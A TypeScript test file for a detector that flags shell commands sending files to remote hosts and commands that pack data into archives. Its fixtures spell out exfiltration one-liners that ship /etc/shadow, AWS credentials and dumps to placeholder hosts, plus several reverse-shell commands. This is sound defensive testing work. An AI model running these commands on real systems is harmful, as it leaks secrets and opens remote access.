import { expect, test } from 'vitest';
import { packingsIn } from './packings.ts';
import { uploadsIn, type Upload } from './uploads.ts';

const sent: readonly (readonly [string, Upload['what'], Upload['host'], Upload['port']])[] = [
  ['curl -s -T /var/tmp/b.tar http://203.0.113.89:8080/u', ['/var/tmp/b.tar'], '203.0.113.89', '8080'],
  ['curl -sT /tmp/a.zip ftp://203.0.113.89/in/', ['/tmp/a.zip'], '203.0.113.89', '21'],
  ['/usr/bin/curl --upload-file=/tmp/a https://files.example.com', ['/tmp/a'], 'files.example.com', '443'],
  [
    'curl -F "file=@/etc/shadow;type=text/plain" -F key=1 https://drop.example.net/up',
    ['/etc/shadow'],
    'drop.example.net',
    '443',
  ],
  [
    'sudo -u bob curl -X POST --data-binary @/home/bob/.aws/credentials 198.51.100.7:9000/x',
    ['/home/bob/.aws/credentials'],
    '198.51.100.7',
    '9000',
  ],
  ['cat /etc/passwd | base64 -w0 | curl -d @- https://drop.example.net', ['/etc/passwd'], 'drop.example.net', '443'],
  ['tar czf - -C /srv build data | curl -T - http://203.0.113.9/x', ['/srv/build', '/srv/data'], '203.0.113.9', '80'],
  ['wget -q --post-file=/tmp/d.sql http://drop.example.net:81/', ['/tmp/d.sql'], 'drop.example.net', '81'],
  [
    'scp -P 2222 -i /tmp/k /tmp/a.tgz /tmp/b.tgz root@198.51.100.7:/srv/in/',
    ['/tmp/a.tgz', '/tmp/b.tgz'],
    '198.51.100.7',
    '2222',
  ],
  ["rsync -az -e 'ssh -p 22' /srv/data/ eve@198.51.100.7:/in", ['/srv/data/'], '198.51.100.7', '22'],
  ['nc -w 3 203.0.113.89 4444 < /tmp/a.tgz', ['/tmp/a.tgz'], '203.0.113.89', '4444'],
  ["bash -c 'cat /etc/shadow > /dev/tcp/203.0.113.89/443'", ['/etc/shadow'], '203.0.113.89', '443'],
  ['bash -c tar cz /etc | nc 203.0.113.89 4444', ['/etc'], '203.0.113.89', '4444'],
  ["tar cf - /srv/www | ssh -p 2200 eve@198.51.100.7 'cat > w.tar'", ['/srv/www'], '198.51.100.7', '2200'],
  ['socat -u FILE:/tmp/a TCP:203.0.113.89:9999', ['/tmp/a'], '203.0.113.89', '9999'],
  ['openssl s_client -quiet -connect 203.0.113.89:443 < /tmp/a', ['/tmp/a'], '203.0.113.89', '443'],
  ['curl -T /tmp/a 203.0.113.89/u >/dev/null 2>&1', ['/tmp/a'], '203.0.113.89', '80'],
  ['scp /tmp/a eve@198.51.100.7:/in 2>/dev/null', ['/tmp/a'], '198.51.100.7', '22'],
  ['tar cf - /srv 2>/dev/null | nc 203.0.113.89 4444', ['/srv'], '203.0.113.89', '4444'],
  ['sudo -n scp /tmp/a eve@198.51.100.7:/in', ['/tmp/a'], '198.51.100.7', '22'],
  ['nice -n 10 xargs -n 1 scp /tmp/a eve@198.51.100.7:/in', ['/tmp/a'], '198.51.100.7', '22'],
  ["sh -c 'cat /etc/shadow' | nc 203.0.113.89 4444", ['/etc/shadow'], '203.0.113.89', '4444'],
  ['echo "$(cat /etc/shadow)" | nc 203.0.113.89 4444', [], '203.0.113.89', '4444'],
  ['curl -T /tmp/a constructor://drop.example.net/', ['/tmp/a'], 'drop.example.net', '80'],
  ['timeout 60 nohup curl --data-urlencode "x@/tmp/a" http://[2001:db8::7]:8080/', ['/tmp/a'], '2001:db8::7', '8080'],
];

test.each(sent)('%s sends something away', (command, what, host, port) => {
  expect(uploadsIn(command)).toMatchObject([{ what, host, port }]);
});

test.each([
  'curl -s http://203.0.113.89/x -o /tmp/x',
  'curl -d user=bob -d pass=1 https://login.example.com',
  'wget -q https://paste.example.net/raw/xyz -O /tmp/x.tgz',
  'scp root@198.51.100.7:/srv/in/a /tmp/a',
  'rsync -a rsync://mirror.example.com/x /srv/x',
  'nc -lvp 4444 < /tmp/answer',
  'nc -e /bin/sh 203.0.113.89 4444',
  'nc -z 203.0.113.89 22',
  'ssh root@198.51.100.7 uptime',
  'echo curl -T /tmp/a http://203.0.113.89/',
  'grep -r "curl -T" /srv',
  'tar czf /tmp/a.tgz /srv',
  "bash -c 'exec 3<>/dev/tcp/203.0.113.89/443'",
  'bash -i > /dev/tcp/203.0.113.89/443 0<&1 2>&1',
  'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.89 4444 > /tmp/f',
  'printf "GET / HTTP/1.0" | nc files.example.com 80',
  'echo stats | base64 | nc 203.0.113.89 4444',
  '',
  'constructor /tmp/a',
  '__proto__ /tmp/a',
  '"$(',
])('%s sends nothing away', (command) => {
  expect(uploadsIn(command)).toStrictEqual([]);
});

test.each([
  ['tar -C /srv/build -cf /var/tmp/b.tar work', '/var/tmp/b.tar', ['/srv/build/work']],
  ['tar czf /tmp/a.tgz /etc /home/bob', '/tmp/a.tgz', ['/etc', '/home/bob']],
  ['tar c /srv | gzip > /tmp/s.tgz', '/tmp/s.tgz', ['/srv']],
  ['zip -qr /tmp/x /srv/www', '/tmp/x.zip', ['/srv/www']],
  ['7z a -p1 /tmp/x.7z /srv', '/tmp/x.7z', ['/srv']],
  ['gzip /tmp/dump.sql', '/tmp/dump.sql.gz', ['/tmp/dump.sql']],
  ['mysqldump -u root shop > /tmp/shop.sql', '/tmp/shop.sql', ['database shop']],
  ['mysqldump -u root -psecret shop > /tmp/shop.sql', '/tmp/shop.sql', ['database shop']],
  ['mysqldump --databases shop crm > /tmp/two.sql', '/tmp/two.sql', ['database shop', 'database crm']],
  ['mysqldump shop users 2>/dev/null > /tmp/t.sql', '/tmp/t.sql', ['table users of database shop']],
  ['mysqldump --all-databases > /tmp/all.sql', '/tmp/all.sql', ['all databases']],
  ['tar czf /tmp/a.tgz /etc 2>/dev/null', '/tmp/a.tgz', ['/etc']],
  ['pg_dump -U app -f /tmp/app.sql app', '/tmp/app.sql', ['database app']],
])('%s packs', (command, archive, of) => {
  expect(packingsIn(command)).toMatchObject([{ archive, of }]);
});

test.each(['tar xzf /tmp/a.tgz -C /srv', 'gzip -d /tmp/a.gz', '7z x /tmp/a.7z', 'tar tf /tmp/a.tar'])(
  '%s packs nothing',
  (command) => {
    expect(packingsIn(command)).toStrictEqual([]);
  },
);
